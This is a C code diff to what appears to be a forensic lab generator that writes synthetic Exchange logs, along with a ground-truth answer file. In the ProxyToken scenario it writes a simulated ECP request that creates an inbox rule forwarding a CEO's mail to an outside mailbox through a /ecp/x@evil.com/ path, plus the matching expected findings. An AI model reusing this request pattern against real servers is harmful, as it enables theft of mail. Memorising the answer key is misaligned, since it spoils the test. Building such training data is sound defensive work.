@@ -48,6 +48,7 @@ struct gen {
 	 * for OWA's users' passwords to be reset (since this time) */
 	time_t passwords_taken;
 	bool keys_taken; /* a page read the ASP.NET machine keys */
+	char mail[256];  /* mail access the text logs show (JSON members) */
 	FILE *httpproxy_ecp, *httpproxy_owa, *httpproxy_ad, *iis, *ecp, *oab,
 	    *cmdlet;
 	struct winhost *win; /* event logs and hives */
@@ -623,6 +624,15 @@ static void sc_owassrf(struct gen *g)
 
 static void sc_proxytoken(struct gen *g)
 {
+	/* what ProxyToken is for: a rule sending a mailbox's mail on, set
+	 * through ECP as its owner */
+	if (g->ecp)
+		fprintf(g->ecp,
+		        "2021-08-30T12:00:01.000Z,EXCH01,ECP.Request,\"S:CMD="
+		        "New-InboxRule.Mailbox='ceo@corp.example'.Name='.'."
+		        "ForwardTo='ceo-copy@mailbox.example';S:URL=/ecp/"
+		        "x@evil.com/RulesEditor/InboxRules.svc/NewObject\"\r\n");
+	snprintf(g->mail, sizeof g->mail, "\"inbox-rule-forward\"");
 	iis_row(g->iis, "2021-08-30", "12:00:00", "POST",
 	        "/ecp/x@evil.com/RulesEditor/InboxRules.svc/NewObject",
 	        "msExchEcpCanary=abc", "", ATTACKER_IP,
@@ -983,7 +993,11 @@ int lab_host_write(const struct host_opts *o, const char *truth_path)
 		        "#Fields: TimeStamp,ServerName,EventId,EventData\r\n"
 		        "2021-01-02T03:04:05.000Z,EXCH01,ECP.Request,\"S:CMD="
 		        "Get-InboxRule;"
-		        "S:URL=/ecp/RulesEditor/InboxRules.svc\"\r\n");
+		        "S:URL=/ecp/RulesEditor/InboxRules.svc\"\r\n"
+		        "2021-01-02T03:05:00.000Z,EXCH01,ECP.Request,\"S:CMD="
+		        "New-InboxRule.Mailbox='alice@corp.example'.Name="
+		        "'Invoices'.MoveToFolder='Invoices';S:URL=/ecp/"
+		        "RulesEditor/InboxRules.svc/NewObject\"\r\n");
 	g.oab = create(
 	    &g, EXCH "/Logging/OABGeneratorLog/OABGeneratorLog_20210303-1.LOG");
 	if (g.oab)
@@ -1075,6 +1089,12 @@ int lab_host_write(const struct host_opts *o, const char *truth_path)
 	}
 	/* whether a page read the machine keys (they must be rotated) */
 	fprintf(t, ",\"keys_taken\":%s", g.keys_taken ? "true" : "false");
+	/* mail access granted (finding kinds, medium or worse) */
+	{
+		const char *wm = winhost_mail_access(g.win);
+		fprintf(t, ",\"mail_access\":[%s%s%s]", g.mail,
+		        g.mail[0] && wm[0] ? "," : "", wm);
+	}
 	/* what the image shows beyond the folder (finding kinds by path) */
 	fprintf(t, ",\"image_only\":[");
 	if (o->image && x.deleted_path)
